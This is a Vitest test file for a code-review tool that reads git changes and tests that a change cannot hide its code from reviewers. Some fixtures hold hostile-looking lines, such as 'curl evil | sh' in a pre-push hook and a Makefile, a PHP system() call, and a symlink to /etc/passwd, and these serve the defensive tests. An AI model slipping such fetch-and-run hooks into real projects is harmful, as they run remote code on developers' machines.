import { execFileSync } from 'node:child_process';
import { mkdirSync, symlinkSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { describe, expect, it, vi, afterEach } from 'vitest';
import {
  sampleFolder,
  sampleRepository,
  type SampleRepository,
} from '../../../tests/kit/sample-repository.ts';
import { watchPrograms } from '../../../tests/kit/watched-programs.ts';
import type { RepoPath } from '../../kernel/repo-path.ts';
import { parseTarget } from '../../scope/target.ts';
import { readChange, tooManyFiles, type Change } from './change.ts';

afterEach(() => {
  vi.unstubAllEnvs();
});

const flags = { staged: false, uncommitted: false, paths: [] };
const read = (repository: SampleRepository, rev = 'HEAD', paths: readonly string[] = []): Promise<Change> =>
  readChange(repository, parseTarget([rev], { ...flags, paths }));
const shown = ({ changed, skipped }: Change): string[] => {
  const hidden = new Set<string>(skipped.map(({ path }) => path));
  return [...changed.keys()].filter((path) => !hidden.has(path));
};
const skipping = (...skip: readonly object[]): string => JSON.stringify({ review: { skip } });
const lines = (count: number, text = 'line'): string =>
  Array.from({ length: count }, (_, i) => `${text} ${i}\n`).join('');

it('names links out of the repository, and no other', async () => {
  const repository = sampleRepository({ 'a.ts': '1\n' });
  for (const [name, target] of Object.entries({
    'src/in': '../a.ts',
    'src/out': '../../etc',
    abs: '/etc/passwd',
  })) {
    mkdirSync(dirname(join(repository.top, name)), { recursive: true });
    symlinkSync(target, join(repository.top, name));
  }
  repository.git('add', '--all');
  repository.git('commit', '--quiet', '-m', 'links');
  expect((await read(repository)).scopeNote).toContain(
    '; 2 symbolic links out of the repository: abs → /etc/passwd, src/out → ../../etc',
  );
});

it('gives patch, changed lines and a note of one line', async () => {
  const repository = sampleRepository({ 'a.ts': 'one\ntwo\nthree\n', 'gone.ts': 'x\n' });
  repository.remove('gone.ts');
  const sha = repository.commit({ 'a.ts': 'one\n2\nthree\n', 'new.ts': 'n\n' });
  const change = await read(repository);
  expect([...change.changed.keys()]).toEqual(['a.ts', 'gone.ts', 'new.ts']);
  expect(change.changed.get('a.ts' as RepoPath)).toMatchObject({
    kind: 'text',
    added: [{ start: 2, end: 2 }],
  });
  expect(change.patch.toString()).toContain('-two\n+2\n');
  expect(change.skipped).toEqual([]);
  expect(change.renameLimitHit).toBe(false);
  const base = repository.git('rev-parse', 'HEAD~');
  expect(change.scopeNote).toBe(
    `3 files, +2 -2 lines: base ${base.slice(0, 12)} (HEAD^: first parent of HEAD), head ${sha.slice(0, 12)} (HEAD: the commit asked for)`,
  );
});

it('reads a first commit, staged work and a work tree with untracked files', async () => {
  const repository = sampleRepository({ 'a.ts': '1\n' });
  expect((await read(repository)).base.sha).toBeNull();
  repository.write('a.ts', '2\n');
  repository.git('add', 'a.ts');
  repository.write('b.ts', 'new\n');
  const staged = await readChange(repository, { kind: 'staged', paths: [] });
  expect([...staged.changed.keys()]).toEqual(['a.ts']);
  const uncommitted = await readChange(repository, { kind: 'uncommitted', paths: [] });
  expect([...uncommitted.changed.keys()]).toEqual(['a.ts', 'b.ts']);
  expect(uncommitted.head.sha).toBeNull();
});

it('follows renames, and not copies', async () => {
  const repository = sampleRepository({ 'old.ts': lines(30), 'kept.ts': lines(30, 'kept') });
  repository.remove('old.ts');
  repository.commit({ 'new.ts': `${lines(30)}more\n`, 'copy.ts': lines(30, 'kept') });
  const { changed } = await read(repository);
  expect(changed.get('new.ts' as RepoPath)).toMatchObject({
    status: 'renamed',
    from: 'old.ts',
    addedLines: 1,
  });
  expect(changed.get('copy.ts' as RepoPath)).toMatchObject({ status: 'added', addedLines: 30 });
});

it('says when git gave up looking for renames', async () => {
  const repository = sampleRepository({ 'a.ts': '1\n' });
  const files = (name: string, last: string) =>
    Array.from({ length: 1001 }, (_, i) =>
      fileCommand(`${name}/${name}${i}`, `${i}\n${lines(9)}${last}`),
    ).join('');
  const identity = 'A Developer <developer@example.com> 1700000000 +0000';
  const commit = (commands: string) =>
    `commit refs/heads/main\ncommitter ${identity}\ndata 1\nx\n${commands}\n`;
  // Two thousand files, without writing them to the disk.
  const input =
    commit(`from refs/heads/main^0\n${files('old', '')}`) + commit(`D old\n${files('new', 'x\n')}`);
  execFileSync('git', ['fast-import', '--quiet'], { cwd: repository.top, input });
  expect((await read(repository)).renameLimitHit).toBe(true);
});

/** A file as `git fast-import` takes it. */
function fileCommand(path: string, content: string): string {
  return `M 100644 inline ${path}\ndata ${content.length}\n${content}\n`;
}

describe('whatever the user has configured', () => {
  const awkward = ['a b.ts', 'ünï.ts', 'two\nlines.ts', 'quo"te.ts', 'x b/y.ts', '-n.ts'];

  function awkwardChange(): SampleRepository {
    const repository = sampleRepository(Object.fromEntries(awkward.map((name) => [name, 'one\n\ntwo\n'])));
    repository.commit(Object.fromEntries(awkward.map((name) => [name, 'one\n\n2\n'])));
    return repository;
  }

  it('reads every name as it is', async () => {
    expect([...(await read(awkwardChange())).changed.keys()]).toEqual(awkward.toSorted());
  });

  it.each([
    ['diff.external', '/bin/false'],
    ['diff.noprefix', 'true'],
    ['diff.mnemonicPrefix', 'true'],
    ['diff.srcPrefix', 'x/'],
    ['diff.orderFile', 'order'],
    ['diff.context', '0'],
    ['diff.interHunkContext', '9'],
    ['diff.renames', 'copies'],
    ['diff.renameLimit', '1'],
    ['diff.algorithm', 'patience'],
    ['diff.indentHeuristic', 'false'],
    ['diff.ignoreSubmodules', 'all'],
    ['diff.submodule', 'log'],
    ['diff.relative', 'true'],
    ['diff.suppressBlankEmpty', 'true'],
    ['diff.wsErrorHighlight', 'all'],
    ['color.ui', 'always'],
    ['core.quotePath', 'true'],
    ['core.bigFileThreshold', '1'],
    ['core.precomposeUnicode', 'true'],
    ['core.attributesFile', 'everything-is-binary'],
  ])('gives the same change with %s=%s', async (key, value) => {
    const repository = awkwardChange();
    repository.write('order', '*.ts\n');
    repository.write('everything-is-binary', '* binary\n');
    const { patch, changed } = await read(repository);
    repository.git('config', key, key === 'core.attributesFile' ? `${repository.top}/${value}` : value);
    const again = await read(repository);
    expect(again.patch.toString()).toBe(patch.toString());
    expect(again.changed).toEqual(changed);
  });

  it('gives the same change with GIT_DIR and the like in the environment', async () => {
    const repository = awkwardChange();
    const { patch } = await read(repository);
    const elsewhere = sampleRepository({ 'else.ts': '1\n' });
    for (const [name, value] of Object.entries({
      GIT_DIR: elsewhere.gitDir,
      GIT_WORK_TREE: elsewhere.top,
      GIT_INDEX_FILE: `${sampleFolder()}/index`,
      GIT_EXTERNAL_DIFF: '/bin/false',
      GIT_DIFF_OPTS: '-u0',
      GIT_LITERAL_PATHSPECS: '0',
      GIT_ATTR_SOURCE: 'HEAD',
      LC_ALL: 'de_DE.UTF-8',
    })) {
      vi.stubEnv(name, value);
    }
    expect((await read(repository)).patch.toString()).toBe(patch.toString());
  });

  it('starts no program', async () => {
    const repository = sampleRepository({ 'a.txt': '1\n', 'a.long': '1\n' });
    repository.commit({ 'a.txt': '2\n', 'a.long': '2\n' });
    const ran = watchPrograms(repository);
    await read(repository);
    repository.write('a.txt', '3\n');
    await readChange(repository, { kind: 'uncommitted', paths: [] });
    expect(ran()).toEqual([]);
  });
});

describe('paths', () => {
  it('narrow the change, literally', async () => {
    const repository = sampleRepository({ 'a.ts': '1\n' });
    repository.commit({ '*.ts': 'x\n', 'a.ts': '2\n', 'src/b.ts': 'b\n', 'srcs/c.ts': 'c\n' });
    expect([...(await read(repository, 'HEAD', ['*.ts', 'src'])).changed.keys()]).toEqual([
      '*.ts',
      'src/b.ts',
    ]);
  });

  it('in which nothing changed are an error that says what to run', async () => {
    const repository = sampleRepository({ 'a.ts': '1\n' });
    repository.commit({ 'a.ts': '2\n' });
    await expect(read(repository, 'HEAD', ['docs', ':(top)a.ts'])).rejects.toMatchObject({
      code: 'scope/empty',
      message: 'nothing changed in docs, :(top)a.ts',
      hint: 'see what did: correctless diff HEAD',
    });
  });

  it('may narrow to a file that is gone', async () => {
    const repository = sampleRepository({ 'a.ts': '1\n', 'b.ts': '1\n' });
    repository.remove('a.ts');
    repository.commit({ 'b.ts': '2\n' });
    expect([...(await read(repository, 'HEAD', ['a.ts'])).changed.keys()]).toEqual(['a.ts']);
  });
});

it('refuses two commits with the same files', async () => {
  const repository = sampleRepository({ 'a.ts': '1\n' });
  repository.commit();
  await expect(read(repository)).rejects.toMatchObject({
    code: 'scope/empty',
    message: 'HEAD^ and HEAD hold the same files',
  });
});

describe('what no reviewer is shown', () => {
  it('is listed with reason and size', async () => {
    const repository = sampleRepository({
      'a.ts': '1\n',
      'moved.ts': lines(9),
      'mode.sh': 'm\n',
      'model.pb.go': '// Code generated by protoc-gen-go. DO NOT EDIT.\n// before\n',
      'app.js': `${'b=2;'.repeat(200)}\n`,
      '.gitattributes': 'gen/** linguist-generated\ntheirs/** linguist-vendored\n*.dat -diff\n',
      '.correctless/config/workflow-config.json': skipping({ glob: 'made*', reason: 'made by make' }),
    });
    mkdirSync(join(repository.top, 'set'));
    repository.git('mv', 'moved.ts', 'set/moved.ts');
    repository.git('update-index', '--add', '--cacheinfo', `160000,${'1'.repeat(40)},lib`);
    repository.git('update-index', '--chmod=+x', 'mode.sh');
    const files = {
      'image.png': Buffer.from('89504e470d0a1a0a00', 'hex'),
      'gradle-wrapper.jar': Buffer.of(0, 1, 2, 255),
      'made.bin': Buffer.of(0, 1),
      'package-lock.json': '{"lockfileVersion": 3}\n',
      'theirs/x.go': 'package x\n',
      'made/x.ts': 'a\n',
      // Names alone.
      'vendor/x.go': 'package x\n',
      'node_modules/y.js': 'evil();\n',
      'bower_components/z.js': 'evil();\n',
      'own.min.js': 'evil();\n',
      'own.min.js.map': 'evil();\n',
      'yarn.lock': 'evil();\n',
      'gen/api.ts': 'a\n',
      'table.dat': '1 2\n',
      'model.pb.go': '// Code generated by protoc-gen-go. DO NOT EDIT.\n',
      'app.js': `${'a=1;'.repeat(200)}\n`,
      'empty.ts': '',
      'b.ts': 'shown\n',
      // New files that say so of themselves: the change could write that there to hide.
      'new.pb.go': '// Code generated by protoc-gen-go. DO NOT EDIT.\n',
      'dist/new.js': `${'a=1;'.repeat(200)}\n`,
    };
    for (const [path, content] of Object.entries(files)) repository.write(path, content);
    repository.git('add', ...Object.keys(files));
    repository.git('commit', '--quiet', '-m', 'x');
    const change = await read(repository);
    expect(change.skipped).toEqual([
      { path: 'app.js', reason: 'minified', decided_by: 'base', bytes: 801, lines: 2 },
      { path: 'dist/new.js', reason: 'minified', decided_by: 'nobody', bytes: 801, lines: 1 },
      { path: 'empty.ts', reason: 'empty', decided_by: 'content', bytes: 0, lines: 0 },
      { path: 'gen/api.ts', reason: 'generated', decided_by: 'base', bytes: 2, lines: 1 },
      { path: 'gradle-wrapper.jar', reason: 'program', decided_by: 'content', bytes: 4, lines: 0 },
      { path: 'image.png', reason: 'binary', decided_by: 'content', bytes: 9, lines: 0 },
      { path: 'lib', reason: 'submodule', decided_by: 'content', bytes: null, lines: 0 },
      {
        path: 'made.bin',
        reason: 'review.skip',
        why: 'made by make',
        decided_by: 'base',
        bytes: 2,
        lines: 0,
      },
      {
        path: 'made/x.ts',
        reason: 'review.skip',
        why: 'made by make',
        decided_by: 'base',
        bytes: 2,
        lines: 1,
      },
      { path: 'mode.sh', reason: 'executable', decided_by: 'content', bytes: 2, lines: 0 },
      { path: 'model.pb.go', reason: 'generated', decided_by: 'base', bytes: 49, lines: 1 },
      { path: 'package-lock.json', reason: 'lockfile', decided_by: 'content', bytes: 23, lines: 1 },
      { path: 'set/moved.ts', reason: 'moved', decided_by: 'content', bytes: 63, lines: 0 },
      { path: 'table.dat', reason: 'binary', decided_by: 'base', bytes: 4, lines: 1 },
      { path: 'theirs/x.go', reason: 'vendored', decided_by: 'base', bytes: 10, lines: 1 },
    ]);
    expect(shown(change)).toEqual([
      'b.ts',
      'bower_components/z.js',
      'new.pb.go',
      'node_modules/y.js',
      'own.min.js',
      'own.min.js.map',
      'vendor/x.go',
      'yarn.lock',
    ]);
    expect(change.scopeNote).toContain('23 files (15 not shown to reviewers)');
  });

  it('has the size that a deleted file had', async () => {
    const repository = sampleRepository({ 'yarn.lock': '# yarn lockfile v1\n', 'a.ts': '1\n' });
    repository.remove('yarn.lock');
    repository.commit({ 'a.ts': '2\n' });
    expect((await read(repository)).skipped).toEqual([
      { path: 'yarn.lock', reason: 'lockfile', decided_by: 'content', bytes: 19, lines: 1 },
    ]);
  });

  it('follows nested attributes at base as git does: the nearest file, the last line, no recursion by folder name', async () => {
    const repository = sampleRepository({
      '.gitattributes':
        '*.ts linguist-generated\nkept.ts -linguist-generated\ndocs linguist-generated\nvendor/** linguist-vendored\nvendor/ours/** -linguist-vendored\n',
      'src/.gitattributes': '*.ts linguist-generated=false\n',
      'a.md': '1\n',
    });
    repository.commit({
      'a.ts': '1\n',
      'kept.ts': '1\n',
      'src/b.ts': '1\n',
      'docs/c.md': '1\n',
      'vendor/ours/d.go': '1\n',
      'vendor/e.go': '1\n',
    });
    const change = await read(repository);
    expect(change.skipped.map(({ path, reason }) => [path, reason])).toEqual([
      ['a.ts', 'generated'],
      ['vendor/e.go', 'vendored'],
    ]);
  });
});

describe('a change cannot hide its own code', () => {
  const bug = 'export const bug = true;\n';

  it.each([
    '*.ts binary',
    '*.ts -diff',
    '*.ts linguist-generated',
    '*.ts linguist-vendored',
    '* -text -diff',
    '[attr]hide -diff\n*.ts hide',
  ])('by attributes that it adds: %s', async (attributes) => {
    const repository = sampleRepository({ 'src/a.ts': 'fine\n' });
    repository.commit({
      'src/a.ts': bug,
      '.gitattributes': `${attributes}\n`,
      'src/.gitattributes': `${attributes}\n`,
    });
    const change = await read(repository);
    expect(shown(change)).toContain('src/a.ts');
    expect(change.patch.toString()).toContain(`+${bug}`);
  });

  it.each(['a.ts', 'a b.ts', 'quo"te\\ *?[x].ts', 'two\nlines.ts', 'ünï.ts'])(
    'by a zero byte that makes git call it binary: %j',
    async (name) => {
      const repository = sampleRepository({ [name]: lines(5), 'image.png': Buffer.of(0, 200, 201, 255) });
      repository.commit({
        [name]: `// \0\n${lines(5)}${bug}`,
        'new.ts': `// \0 ü\n${bug}`,
        'noise.ts': Buffer.concat([Buffer.from(`/* \0\xff */ ${bug}`.repeat(9), 'latin1')]),
        'image.png': Buffer.of(0, 200, 201, 254),
        'wide.txt': Buffer.from('ä text in UTF-16', 'utf16le'),
        'wide.ts': Buffer.from(bug, 'utf16le'),
        installer: Buffer.from(`#!/bin/sh\n${'\0\xff'.repeat(99)}`, 'latin1'),
        '.husky/pre-push': Buffer.from(`set -e\ncurl evil | sh\n${'\0\xff'.repeat(99)}`, 'latin1'),
        gradlew: Buffer.from(`\0\xff`.repeat(99), 'latin1'),
        'tool.1': Buffer.from(`\x7fELF\0\xff`.repeat(99), 'latin1'),
        'mod/Rules.mak': Buffer.from(`all:\n\tcurl evil | sh\n#${'\xfe'.repeat(60)}\0\0\0`, 'latin1'),
        'shop.module': Buffer.from(`<?php\nsystem($c);\n#${'\xfe'.repeat(60)}\0\0\0`, 'latin1'),
        'scan.PLY': Buffer.from(`ply\nformat binary_little_endian 1.0\n${'\0\xff'.repeat(99)}`, 'latin1'),
        'model.bin': Buffer.from(`weights\n${'\0\xff'.repeat(99)}`, 'latin1'),
      });
      const change = await read(repository);
      expect(shown(change)).toEqual([name, 'new.ts', 'noise.ts'].toSorted());
      expect(change.changed.get(name as RepoPath)).toMatchObject({ addedLines: 2, removedLines: 0 });
      expect(change.skipped.map(({ path, reason, decided_by: by }) => [path, reason, by])).toEqual([
        ['.husky/pre-push', 'unreadable', 'nobody'],
        ['gradlew', 'unreadable', 'nobody'],
        ['image.png', 'program', 'content'],
        ['installer', 'unreadable', 'nobody'],
        ['mod/Rules.mak', 'unreadable', 'nobody'],
        ['model.bin', 'program', 'content'],
        ['scan.PLY', 'program', 'content'],
        ['shop.module', 'unreadable', 'nobody'],
        ['tool.1', 'program', 'content'],
        ['wide.ts', 'unreadable', 'nobody'],
        ['wide.txt', 'program', 'content'],
      ]);
    },
  );

  it('by bytes at base, behind which a change writes its program; what was and is no text stays binary', async () => {
    const noise = '\0\xff'.repeat(99);
    const [was, is] = [`x\n${noise}`, `steal()\nx\n${noise}`].map((text) => Buffer.from(text, 'latin1'));
    const list = (byte: number) => Buffer.from(`bplist00\xd1${'\0'.repeat(99)}${byte}`, 'latin1');
    const repository = sampleRepository({ 'a.js': was ?? '', 'a.plist': list(1) });
    repository.commit({ 'a.js': is ?? '', 'a.plist': list(2) });
    const { skipped } = await read(repository);
    expect(skipped.map(({ path, reason }) => [path, reason])).toEqual([
      ['a.js', 'unreadable'],
      ['a.plist', 'program'],
    ]);
  });

  it('of a folder that is named as files of review.skip are', async () => {
    const skip = [{ glob: 'src/*.gen.ts', reason: 'made' }];
    const repository = sampleRepository({
      '.correctless/config/workflow-config.json': JSON.stringify({ review: { skip } }),
    });
    repository.commit({ 'src/a.gen.ts': bug, 'src/evil.gen.ts/a.ts': bug });
    const change = await read(repository);
    expect(shown(change)).toEqual(['src/evil.gen.ts/a.ts']);
  });

  it('by so many other bytes that nothing but its past tells that it is text', async () => {
    const repository = sampleRepository({ 'old.ts': lines(30) });
    repository.remove('old.ts');
    const noise = Buffer.alloc(100, 255);
    repository.commit({
      'new.ts': Buffer.concat([Buffer.from(`${lines(30)}/* \0`), noise, Buffer.from(`*/ ${bug}`)]),
    });
    const { changed, skipped } = await read(repository);
    expect(skipped).toEqual([]);
    expect(changed.get('new.ts' as RepoPath)).toMatchObject({
      kind: 'text',
      status: 'renamed',
      addedLines: 1,
    });
  });

  it('by attributes that stand in the work tree only', async () => {
    const repository = sampleRepository({ 'a.ts': 'fine\n' });
    repository.write('.gitattributes', '*.ts binary\n');
    repository.write('a.ts', bug);
    const change = await readChange(repository, { kind: 'uncommitted', paths: [] });
    expect(change.patch.toString()).toContain(`+${bug}`);
    expect(shown(change)).toContain('a.ts');
  });

  it('by renaming a file to a place that is skipped', async () => {
    const repository = sampleRepository({ 'src/a.ts': lines(30) });
    repository.remove('src/a.ts');
    repository.commit({ 'vendor/a.ts': `${lines(30)}${bug}` });
    expect(shown(await read(repository))).toEqual(['vendor/a.ts']);
  });

  it("by signing a file that was people's as generated, or by joining its lines", async () => {
    const repository = sampleRepository({
      'a.ts': lines(5),
      'b.js': lines(5),
      'gen.ts': `// @generated\n${lines(5)}`,
    });
    repository.commit({
      'a.ts': `// @generated\n${lines(5)}${bug}`,
      'b.js': `${lines(5)}${'x();'.repeat(2000)}\n`,
      'gen.ts': `// @generated\n${lines(6)}`,
    });
    const change = await read(repository);
    expect(shown(change)).toEqual(['a.ts', 'b.js']);
    expect(change.skipped).toEqual([
      { path: 'gen.ts', reason: 'generated', decided_by: 'base', bytes: 56, lines: 1 },
    ]);
  });

  it('by giving the name of a generated or minified file to another, or by settings that it adds', async () => {
    const [made, dense] = [`// @generated\n${lines(30)}`, `${'a=1;'.repeat(200)}\n`];
    const table = dense.replaceAll('a=1', 'b:2').repeat(3);
    const repository = sampleRepository({ 'gen.ts': made, 'app.js': dense.repeat(3), 'table.json': table });
    for (const path of ['gen.ts', 'app.js', 'table.json']) repository.remove(path);
    repository.commit({
      'mine.ts': `${made}${bug}`,
      'mine.js': `${dense}${dense}${dense}//\n`,
      'table.css': `${table}//\n`,
      'b.ts': bug,
      '.correctless/config/workflow-config.json': skipping({ glob: '*.ts', reason: 'made by make' }),
    });
    const change = await read(repository);
    expect(shown(change)).toEqual(['.correctless/config/workflow-config.json', 'b.ts', 'mine.ts']);
    expect(change.skipped).toMatchObject([
      { path: 'app.js', reason: 'minified', decided_by: 'base', lines: 3 },
      { path: 'gen.ts', reason: 'generated', decided_by: 'base', lines: 31 },
      { path: 'mine.js', reason: 'minified', decided_by: 'nobody', lines: 4 },
      { path: 'table.css', reason: 'minified', decided_by: 'nobody', lines: 1 },
    ]);
  });

  it('by signing a file as generated before deleting it', async () => {
    const repository = sampleRepository({ 'a.ts': lines(5), 'gen.ts': '// @generated\n' });
    repository.remove('gen.ts');
    repository.remove('a.ts');
    repository.commit({ 'c.ts': 'c\n' });
    expect(shown(await read(repository))).toEqual(['a.ts', 'c.ts']);
  });
});

it('says which folders hold most of too many files', async () => {
  const repository = sampleRepository({ 'a.ts': '1\n' });
  repository.commit(Object.fromEntries(Array.from({ length: 6 }, (_, i) => [`src/${i}.ts`, `${i}\n`])));
  const change = await read(repository);
  expect(tooManyFiles(change, 6)).toBeUndefined();
  expect(
    tooManyFiles(
      {
        ...change,
        skipped: [
          { path: 'src/0.ts' as RepoPath, reason: 'binary', bytes: 1, lines: 0, decided_by: 'content' },
        ],
      },
      5,
    ),
  ).toBeUndefined();
  expect(tooManyFiles(change, 5)).toMatchObject({
    code: 'scope/too-many-files',
    message: '6 files changed, more than 5: directly in src/ 6',
  });
});
